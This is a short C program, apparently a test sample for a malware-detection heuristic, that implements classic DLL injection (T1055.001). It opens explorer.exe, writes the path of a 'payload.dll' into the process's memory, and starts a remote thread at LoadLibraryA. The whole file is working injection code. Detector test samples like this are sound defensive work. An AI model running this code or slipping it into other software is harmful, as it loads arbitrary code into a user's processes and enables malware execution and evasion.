// Heuristic 8 (DLL injection, T1055.001) and 5: writes a DLL path into
// explorer.exe and starts a remote thread at LoadLibraryA.
#include <string.h>
#include <windows.h>
#include <tlhelp32.h>

static DWORD find_process(const char* name) {
  HANDLE snap = CreateToolhelp32Snapshot(TH32CS_SNAPPROCESS, 0);
  PROCESSENTRY32 pe;
  pe.dwSize = sizeof pe;
  DWORD pid = 0;
  if (snap != INVALID_HANDLE_VALUE && Process32First(snap, &pe)) {
    do {
      if (lstrcmpiA(pe.szExeFile, name) == 0) pid = pe.th32ProcessID;
    } while (!pid && Process32Next(snap, &pe));
  }
  if (snap != INVALID_HANDLE_VALUE) CloseHandle(snap);
  return pid;
}

int main(void) {
  static const char dll[] = "C:\\Users\\Public\\payload.dll";
  DWORD pid = find_process("explorer.exe");
  HANDLE proc = OpenProcess(PROCESS_ALL_ACCESS, FALSE, pid ? pid : 1234);
  if (!proc) return 1;
  void* remote = VirtualAllocEx(proc, NULL, sizeof dll, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
  if (!remote) return 2;
  WriteProcessMemory(proc, remote, dll, sizeof dll, NULL);
  FARPROC load = GetProcAddress(GetModuleHandleA("kernel32.dll"), "LoadLibraryA");
  HANDLE thread = CreateRemoteThread(proc, NULL, 0, (LPTHREAD_START_ROUTINE)load, remote, 0, NULL);
  if (thread) {
    WaitForSingleObject(thread, 1000);
    CloseHandle(thread);
  }
  CloseHandle(proc);
  return 0;
}
